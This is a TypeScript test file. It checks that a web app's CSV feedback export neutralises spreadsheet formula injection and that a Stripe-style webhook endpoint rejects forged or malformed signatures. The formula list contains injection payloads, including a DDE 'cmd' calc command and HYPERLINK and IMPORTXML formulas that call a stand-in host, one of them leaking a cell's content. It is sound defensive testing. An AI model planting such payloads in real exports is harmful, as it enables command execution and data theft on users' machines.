import { createHmac } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { webhookEvents } from '#database/schema.ts'
import { webhookPath } from '#features/billing/contract.ts'
import { standInPayment } from '#stand-ins/payment/address.ts'
import { anAdmin, signedIn } from '#tests/factories.ts'
import { startTestServer, type TestServer } from '#tests/test-server.ts'

let server: TestServer
beforeAll(async () => {
  server = await startTestServer()
})
afterAll(() => server.close())

/** The cells of a CSV text as a spreadsheet reads them. */
function readCells(csv: string): string[] {
  return [...csv.slice(1).matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '',
  )
}

describe('a formula in an exported table', () => {
  const formulas = [
    '=1+1',
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '"=1+1',
    '";=1+1;"',
    ',=1+1',
    'a\r\n=1+1',
    '=HYPERLINK("https://boese.example?"&A1;"Befund")',
    '=IMPORTXML("https://boese.example";"//a")',
    '＝1+1',
  ]

  it('is text in every cell, also behind separators and line breaks', async () => {
    const admin = await signedIn(server, await anAdmin(server))
    for (const text of formulas) {
      const rating = { feedbackType: 'negative', feedbackText: text, templateName: text, language: 'de' }
      const body = { ...rating, inputMethod: 'external_transcript', templateUsed: true }
      expect((await admin.post('/api/feedback', body)).status).toBe(201)
    }
    const { text } = await admin.get('/api/admin/feedback/export')
    const cells = readCells(text.trimEnd())
    expect(cells).toHaveLength((formulas.length + 1) * 9)
    expect(cells.filter((cell) => /^\s*[=+\-@＝]/.test(cell))).toEqual([])
    // The positive controls: the texts are there, and a formula would be seen.
    expect(cells.filter((cell) => cell.includes('1+1')).length).toBeGreaterThan(10)
    expect(readCells('\uFEFFa,=1+1')).toEqual(['a', '=1+1'])
  })
})

describe('a webhook of nobody', () => {
  const event = (id: string) =>
    JSON.stringify({
      id,
      object: 'event',
      type: 'customer.updated',
      data: { object: { object: 'customer', id: 'cus_a' } },
    })
  const sign = (body: string, secret: string, at: number) =>
    `t=${at},v1=${createHmac('sha256', secret).update(`${at}.${body}`).digest('hex')}`
  const now = () => Math.floor(server.clock.now().getTime() / 1000)
  const post = (body: string, signature?: string) =>
    server.browser().send({
      method: 'POST',
      url: webhookPath,
      headers: {
        'content-type': 'application/json',
        ...(signature === undefined ? {} : { 'stripe-signature': signature }),
      },
      payload: body,
    })

  it('is refused and leaves no trace', async () => {
    const body = event('evt_falsch')
    const right = sign(body, standInPayment.webhookSecret, now())
    const forged: [string, string | undefined][] = [
      [body, undefined],
      [body, ''],
      [body, 't=1,v1=00'],
      [body, `t=${now()},v0=${right.split('v1=')[1]}`],
      [body, sign(body, 'whsec_geraten', now())],
      [body, sign(body, '', now())],
      [body, sign(body, standInPayment.webhookSecret, now() - 3600)],
      [body.replace('cus_a', 'cus_b'), right],
      [` ${body}`, right],
    ]
    for (const [text, signature] of forged) {
      const answer = await post(text, signature)
      expect([signature, answer.status]).toEqual([signature, 400])
    }
    expect(await server.deps.db.select().from(webhookEvents)).toEqual([])
    // The positive control: the same event, rightly signed, is taken.
    expect((await post(body, right)).status).toBe(200)
    expect(await server.deps.db.select().from(webhookEvents)).toHaveLength(1)
  })

  it('rightly signed, but no event, is refused', async () => {
    for (const body of [
      '',
      '{',
      'null',
      '[]',
      '{}',
      '{"id":1}',
      '{"id":"evt_a","type":"a","data":{}}',
      '{"id":"evt_b","data":{"object":null}}',
    ]) {
      const { status } = await post(body, sign(body, standInPayment.webhookSecret, now()))
      expect([body, status]).toEqual([body, 400])
    }
  })
})
